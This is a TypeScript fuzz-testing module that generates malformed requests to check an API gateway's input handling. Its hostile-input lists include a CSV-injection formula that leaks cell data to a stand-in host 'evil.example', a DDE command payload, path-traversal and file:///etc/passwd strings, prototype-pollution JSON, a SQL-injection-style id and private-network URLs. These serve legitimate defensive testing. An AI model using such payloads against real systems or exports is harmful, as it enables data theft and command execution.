import fc from 'fast-check';
import { NON_PUBLIC_HOSTS } from '../support/address-spellings';
import type { FuzzEnv, FuzzTarget } from './targets';

/**
 * Bad requests as fast-check arbitraries. A body is built as a tree that may hold raw JSON text
 * (number literals JSON.stringify cannot write, broken syntax) and objects with duplicate keys,
 * then written out as the exact text sent, so a case reproduces byte for byte.
 */

export class RawJson {
  constructor(readonly text: string) {}
}
/** An object written with its entries as given, duplicate keys included. */
export class DuplicateKeys {
  constructor(readonly entries: readonly (readonly [string, Tree])[]) {}
}
export type Tree = null | boolean | number | string | RawJson | DuplicateKeys | Tree[] | { [key: string]: Tree };

export function writeJson(tree: Tree): string {
  if (tree instanceof RawJson) return tree.text;
  if (tree instanceof DuplicateKeys) return `{${tree.entries.map(([k, v]) => `${JSON.stringify(k)}:${writeJson(v)}`).join(',')}}`;
  if (Array.isArray(tree)) return `[${tree.map(writeJson).join(',')}]`;
  if (tree !== null && typeof tree === 'object') return `{${Object.entries(tree).map(([k, v]) => `${JSON.stringify(k)}:${writeJson(v)}`).join(',')}}`;
  // JSON.stringify escapes NUL and lone surrogates as \u0000 / \udXXX, which JSON.parse turns back into them.
  return JSON.stringify(tree) ?? 'null';
}

/** One request of the fuzz run, with everything needed to send it again. */
export interface FuzzRequest {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  /** The exact text sent, or the bytes where they are not UTF-8. */
  readonly body: string | Buffer | null;
  /** Sent without Content-Length (chunked), so a limit must be enforced while reading. */
  readonly chunked: boolean;
  /** What was done to the valid body (for the report). */
  readonly mutation: string;
  /** The gateway must refuse it whatever the fields: the body as a whole is unacceptable. */
  readonly mustRefuse: boolean;
}

/** Text a spreadsheet runs as a formula when an export writes it as it is (OWASP, CSV injection). */
const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Refund")', "=cmd|' /C calc'!A0", '+1+1', '-2-3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
/** Bytes that are not UTF-8: a byte that cannot follow C3, an overlong "/", a surrogate, past U+10FFFF, a lone continuation, FF, a sequence cut short. */
const NOT_UTF8 = [[0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80], [0x80], [0xff], [0xe2, 0x82]];
const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
  '\uffff',
  '\u202e\u0000',
  'NaN',
  'Infinity',
  '-Infinity',
  '1e309',
  '-0',
  '0x1f',
  '1_000',
  '١٢٣',
  'null',
  'true',
  '[object Object]',
  '__proto__',
  '%00',
  '%ZZ',
  '../../etc/passwd',
  'http://127.0.0.1:99999/',
  'http://user@/',
  'http://[::1',
  'https://exa mple.com/a.mp4',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'data:image/png;base64,AAAA',
  'asset://\u0000',
  'HTTPS://127.0.0.1:1/x.mp3',
  '2026-13-45T99:99:99Z',
  '2026-11-24T09:00:00+25:00',
  'Not/A_Zone',
  '9999x9999',
  '0x0',
  '-1x-1',
  ...FORMULAS,
];
/** Where the bytes of NOT_UTF8 go in a body's text (JSON.stringify cannot write them). */
const BYTES_GO_HERE = '<not-utf-8>';
/** Characters PostgreSQL text and jsonb refuse, and other troublemakers, to hide inside valid strings. */
const POISON = ['\u0000', '\ud800', '\udfff', '\ud83d', '\u0000\u0000', '\uffff', '\u2028', '\u001b'];
const NASTY_NUMBERS = [0, -1, -0, 0.5, -0.5, 1e308, -1e308, 5e-324, 2 ** 31, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), Number.MAX_SAFE_INTEGER, Number.MIN_SAFE_INTEGER];
/** Number literals JSON.parse reads as Infinity, -0 or a rounded value. */
const RAW_NUMBERS = ['1e400', '-1e400', '-0', '1' + '0'.repeat(400), '9007199254740993', '0.' + '0'.repeat(400) + '1', '1E+2', '1.0'];

/** URLs on hosts only a local network reaches, in every spelling of the address rule (src/http/public-address.ts), as media and as callbacks. */
const ADDRESS_SPELLINGS = NON_PUBLIC_HOSTS.flatMap(([host]) => [`https://${host}/a.png`, `http://${host}/hook`, `HTTP://${host}:9/a.mp3`]);
const addressSpelling = fc.constantFrom(...ADDRESS_SPELLINGS);
const nastyString = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 1, arbitrary: addressSpelling },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.nat({ max: 200_000 }).map((n) => 'a'.repeat(n)) },
);
const nastyNumber = fc.oneof(
  fc.constantFrom(...NASTY_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.constantFrom(...RAW_NUMBERS).map((text) => new RawJson(text)),
);

function nested(depth: number, leaf: Tree, kind: 'array' | 'object'): RawJson {
  const [open, close] = kind === 'array' ? ['[', ']'] : ['{"a":', '}'];
  return new RawJson(open.repeat(depth) + writeJson(leaf) + close.repeat(depth));
}

/** A value of a wrong type, a hostile string or number, a deep nest. */
export const badValue: fc.Arbitrary<Tree> = fc.oneof(
  { weight: 3, arbitrary: nastyString },
  { weight: 3, arbitrary: nastyNumber },
  { weight: 2, arbitrary: fc.constantFrom<Tree>(null, true, false, [], {}, [null], { '': null }, ['\u0000'], new RawJson('{"__proto__":{"polluted":true}}'), new RawJson('{"constructor":{"prototype":{"polluted":true}}}')) },
  { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array' as const, 'object' as const)).map(([d, k]) => nested(d, 1, k)) },
  { weight: 1, arbitrary: fc.array(nastyString, { maxLength: 4 }) },
  { weight: 1, arbitrary: fc.dictionary(nastyString, nastyString, { maxKeys: 3 }) },
);

function isJsonObject(value: Tree): boolean {
  if (value instanceof RawJson) return value.text.startsWith('{');
  return value instanceof DuplicateKeys || (value !== null && typeof value === 'object' && !Array.isArray(value));
}

type Path = readonly (string | number)[];

/** Every member of the body (objects' keys and arrays' items, at any depth), root excluded. */
function pathsOf(tree: unknown, prefix: Path = []): Path[] {
  if (Array.isArray(tree)) return tree.flatMap((item, i) => [[...prefix, i], ...pathsOf(item, [...prefix, i])]);
  if (tree !== null && typeof tree === 'object') return Object.entries(tree).flatMap(([k, v]) => [[...prefix, k], ...pathsOf(v, [...prefix, k])]);
  return [];
}

function parentOf(root: Tree, path: Path): { parent: any; key: string | number } {
  let node: any = root;
  for (const step of path.slice(0, -1)) node = node[step];
  return { parent: node, key: path[path.length - 1]! };
}

const describePath = (path: Path) => path.map((p) => (typeof p === 'number' ? `[${p}]` : `.${p}`)).join('') || '(root)';
const show = (value: Tree) => {
  const text = writeJson(value);
  return text.length > 80 ? `${text.slice(0, 80)}… (${text.length} chars)` : text;
};

interface BodyCase {
  readonly text: string | Buffer | null;
  readonly mutation: string;
  readonly mustRefuse: boolean;
  readonly contentType?: string | null;
  readonly chunked?: boolean;
}

/** Bad JSON bodies derived from a valid one. */
function jsonBodies(base: Record<string, unknown>, limit: number): fc.Arbitrary<BodyCase> {
  const paths = pathsOf(base);
  const path = fc.constantFrom(...paths);
  const stringPaths = paths.filter((p) => typeof parentOf(base as Tree, p).parent[parentOf(base as Tree, p).key] === 'string');
  // Fields holding a URL in the valid body (media, files, callbacks): each gets the address spellings too.
  const urlPaths = stringPaths.filter((p) => /^https?:\/\//i.test(parentOf(base as Tree, p).parent[parentOf(base as Tree, p).key] as string));
  const clone = () => structuredClone(base) as Tree;
  /** A copy of the body with `text` put into its string at `p`, `at` characters in (modulo the string's length). */
  const inserted = (p: Path, at: number, text: string) => {
    const body = clone();
    const { parent, key } = parentOf(body, p);
    const value = parent[key] as string;
    const cut = at % (value.length + 1);
    parent[key] = value.slice(0, cut) + text + value.slice(cut);
    return { body, cut };
  };
  const addressed = urlPaths.length === 0 ? [] : [
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...urlPaths), addressSpelling).map(([p, url]): BodyCase => {
      const body = clone();
      const { parent, key } = parentOf(body, p);
      parent[key] = url;
      return { text: writeJson(body), mutation: `set the URL ${describePath(p)} = ${JSON.stringify(url)}`, mustRefuse: false };
    }) },
  ];
  // Poison goes into the body's strings; a body with none gets its poison from badValue below.
  const poisoned = stringPaths.length === 0 ? [] : [
    { weight: 4, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...POISON), fc.nat()).map(([p, poison, at]): BodyCase => {
      const { body, cut } = inserted(p, at, poison);
      return { text: writeJson(body), mutation: `insert ${JSON.stringify(poison)} into ${describePath(p)} at ${cut}`, mustRefuse: false };
    }) },
    // Inside a string such bytes were read as U+FFFD, and the request served and billed.
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...NOT_UTF8), fc.nat()).map(([p, bytes, at]): BodyCase => {
      const { body, cut } = inserted(p, at, BYTES_GO_HERE);
      const [before, after] = writeJson(body).split(BYTES_GO_HERE);
      return {
        text: Buffer.concat([Buffer.from(before!), Buffer.from(bytes), Buffer.from(after!)]),
        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) into ${describePath(p)} at ${cut}`,
        mustRefuse: true,
      };
    }) },
    // Accepted where the field takes any text (a credit's reference and note): the exports must neutralise it.
    { weight: 3, arbitrary: fc.tuple(fc.constantFrom(...stringPaths), fc.constantFrom(...FORMULAS)).map(([p, formula]): BodyCase => {
      const body = clone();
      const { parent, key } = parentOf(body, p);
      parent[key] = formula;
      return { text: writeJson(body), mutation: `set ${describePath(p)} = ${JSON.stringify(formula)}`, mustRefuse: false };
    }) },
  ];
  return fc.oneof(
    ...poisoned,
    ...addressed,
    { weight: 8, arbitrary: fc.tuple(path, badValue).map(([p, value]): BodyCase => {
      const body = clone();
      const { parent, key } = parentOf(body, p);
      parent[key] = value;
      return { text: writeJson(body), mutation: `set ${describePath(p)} = ${show(value)}`, mustRefuse: false };
    }) },
    { weight: 2, arbitrary: path.map((p): BodyCase => {
      const body = clone();
      const { parent, key } = parentOf(body, p);
      if (Array.isArray(parent)) parent.splice(key as number, 1);
      else delete parent[key];
      return { text: writeJson(body), mutation: `delete ${describePath(p)}`, mustRefuse: false };
    }) },
    { weight: 2, arbitrary: fc.tuple(fc.option(path, { nil: undefined }), nastyString, badValue).map(([p, name, value]): BodyCase => {
      const body = clone();
      const target = p === undefined ? body : (() => { const { parent, key } = parentOf(body, p); return parent[key]; })();
      const into = target !== null && typeof target === 'object' && !Array.isArray(target) ? (target as Record<string, Tree>) : (body as Record<string, Tree>);
      into[name || 'unknown_field'] = value;
      return { text: writeJson(body), mutation: `unknown field ${JSON.stringify(name || 'unknown_field')} = ${show(value)} at ${p === undefined ? '(root)' : describePath(p)}`, mustRefuse: false };
    }) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...Object.keys(base)), badValue, fc.boolean()).map(([name, value, badLast]): BodyCase => {
      const entries = Object.entries(clone() as Record<string, Tree>);
      const dup = [name, value] as const;
      const body = new DuplicateKeys(badLast ? [...entries, dup] : [dup, ...entries]);
      return { text: writeJson(body), mutation: `duplicate key ${name} = ${show(value)} ${badLast ? 'after' : 'before'} the valid one`, mustRefuse: false };
    }) },
    { weight: 1, arbitrary: badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `whole body = ${show(value)}`, mustRefuse: !isJsonObject(value) })) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...NOT_UTF8), fc.nat(), fc.boolean()).map(([bytes, at, chunked]): BodyCase => {
      const text = Buffer.from(writeJson(clone()));
      const cut = at % (text.length + 1);
      return {
        text: Buffer.concat([text.subarray(0, cut), Buffer.from(bytes), text.subarray(cut)]),
        mutation: `insert the bytes ${Buffer.from(bytes).toString('hex')} (not UTF-8) at byte ${cut}${chunked ? ', chunked' : ''}`,
        mustRefuse: true,
        chunked,
      };
    }) },
    { weight: 1, arbitrary: fc.constantFrom<BodyCase>(
      { text: '', mutation: 'empty body', mustRefuse: true },
      { text: null, mutation: 'no body at all', mustRefuse: true, contentType: null },
      { text: '   \n', mutation: 'whitespace body', mustRefuse: true },
      { text: '{', mutation: 'truncated JSON', mustRefuse: true },
      { text: "{'model': 1}", mutation: 'single-quoted JSON', mustRefuse: true },
      { text: '{"a":1,}', mutation: 'trailing comma', mustRefuse: true },
      { text: '\ufeff{}', mutation: 'byte order mark', mustRefuse: true },
      { text: 'null', mutation: 'JSON null', mustRefuse: true },
    ) },
    { weight: 1, arbitrary: fc.tuple(fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', 'application/jsonx', 'image/png', '*/*', ''), fc.boolean()).map(([type, keep]): BodyCase => ({
      text: keep ? JSON.stringify(base) : 'model=chat-fast',
      mutation: `content type ${JSON.stringify(type)}`,
      // An empty Content-Type header is no declared type: the JSON is read as JSON.
      mustRefuse: type !== '' || !keep,
      contentType: type,
    })) },
    { weight: 1, arbitrary: fc.tuple(fc.integer({ min: 1, max: 64 * 1024 }), fc.boolean()).map(([over, chunked]): BodyCase => {
      const frame = writeJson({ ...(clone() as object), padding: '' });
      const padding = 'a'.repeat(limit - frame.length + over);
      return { text: writeJson({ ...(clone() as object), padding }), mutation: `body ${over} bytes over the ${limit}-byte limit${chunked ? ', chunked' : ''}`, mustRefuse: true, chunked };
    }) },
  );
}

const BOUNDARY = 'fuzzboundary7MA4YWxkTrZu0gW';
function multipart(parts: readonly { name: string; filename?: string; type?: string; content: string }[]): string {
  const lines = parts.map((p) => {
    const disposition = `form-data; name="${p.name}"${p.filename === undefined ? '' : `; filename="${p.filename}"`}`;
    return `--${BOUNDARY}\r\nContent-Disposition: ${disposition}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n${p.content}\r\n`;
  });
  return `${lines.join('')}--${BOUNDARY}--\r\n`;
}

/** Bad uploads: wrong purposes and file names, missing parts, broken framing, JSON instead. */
const multipartBodies: fc.Arbitrary<BodyCase> = fc.oneof(
  fc.tuple(nastyString, nastyString, fc.constantFrom('', 'ID3 fuzz audio')).map(([purpose, filename, content]): BodyCase => ({
    text: multipart([{ name: 'purpose', content: purpose }, { name: 'file', filename, type: 'audio/mpeg', content }]),
    mutation: `upload purpose=${show(purpose)} filename=${show(filename)} content=${content.length} bytes`,
    mustRefuse: false,
    contentType: `multipart/form-data; boundary=${BOUNDARY}`,
  })),
  fc.constantFrom<BodyCase>(
    { text: multipart([{ name: 'purpose', content: 'minutes' }]), mutation: 'upload without a file', mustRefuse: true, contentType: `multipart/form-data; boundary=${BOUNDARY}` },
    { text: `--${BOUNDARY}\r\nContent-Disposition: form-data; name="purpose"\r\n\r\nminutes`, mutation: 'unterminated multipart', mustRefuse: true, contentType: `multipart/form-data; boundary=${BOUNDARY}` },
    { text: '{"purpose":"minutes"}', mutation: 'JSON instead of multipart', mustRefuse: true, contentType: 'application/json' },
    { text: multipart([{ name: 'purpose', content: 'minutes' }]), mutation: 'multipart without a boundary', mustRefuse: true, contentType: 'multipart/form-data' },
    { text: '', mutation: 'empty multipart', mustRefuse: true, contentType: `multipart/form-data; boundary=${BOUNDARY}` },
  ),
);

/** A body-less endpoint still gets junk, which it must refuse: it takes nothing, or `{}`. */
const unwantedBodies: fc.Arbitrary<BodyCase> = fc.oneof(
  fc.constantFrom<BodyCase>(
    { text: null, mutation: 'no body', mustRefuse: false, contentType: null },
    { text: '{}', mutation: 'an empty object', mustRefuse: false },
  ),
  badValue.map((value): BodyCase => ({ text: writeJson(value), mutation: `junk body ${show(value)}`, mustRefuse: writeJson(value) !== '{}' })),
);

/**
 * Path parameters: mostly the real one, sometimes ids that cannot exist. No `..` or `.`: the
 * client resolves dot segments (also percent-encoded ones) before sending, so such a request
 * reaches another path, not this route.
 */
const oddIds = ['%00', 'a%00b', '%ED%A0%80', '%F0', 'x'.repeat(600), 'a..b', '%2F', 'acct_%27%3B--', '%E2%80%AE'];
function pathOf(route: string, params: Record<string, string>, odd: string | null): string {
  return route.replace(/:(\w+)/g, (_, name: string) => odd ?? encodeURIComponent(params[name] ?? ''));
}

/** The operator's token, and two keys of the account: unrestricted, and allowed only `chat-fast`. */
export interface FuzzCredentials {
  readonly adminToken: string;
  readonly apiKey: string;
  readonly restrictedKey: string;
}

export function requestsFor(target: FuzzTarget, env: FuzzEnv, credentials: FuzzCredentials): fc.Arbitrary<FuzzRequest> {
  const bodies =
    target.body.kind === 'json' ? jsonBodies(target.body.base(env), target.body.limit) : target.body.kind === 'multipart' ? multipartBodies : unwantedBodies;
  const odd = target.params ? fc.option(fc.constantFrom(...oddIds), { nil: null, freq: 8 }) : fc.constant(null);
  const restricted = fc.boolean().chain((b) => (b ? fc.boolean() : fc.constant(false))).chain((b) => (b ? fc.boolean() : fc.constant(false)));
  return fc.tuple(bodies, odd, restricted).map(([body, oddId, useRestricted]): FuzzRequest => {
    const key = useRestricted ? credentials.restrictedKey : credentials.apiKey;
    const headers: Record<string, string> = { authorization: `Bearer ${target.auth === 'admin' ? credentials.adminToken : key}` };
    const contentType = body.contentType === undefined ? 'application/json' : body.contentType;
    if (contentType !== null) headers['content-type'] = contentType;
    return {
      method: target.method,
      path: pathOf(target.route, target.params?.(env) ?? {}, oddId),
      headers,
      body: body.text,
      chunked: body.chunked ?? false,
      mutation: [
        body.mutation,
        ...(oddId === null ? [] : [`path id ${oddId.length > 40 ? `${oddId.slice(0, 20)}… (${oddId.length} chars)` : oddId}`]),
        ...(useRestricted && target.auth === 'key' ? ['the key allowed only chat-fast'] : []),
      ].join('; '),
      mustRefuse: body.mustRefuse,
    };
  });
}
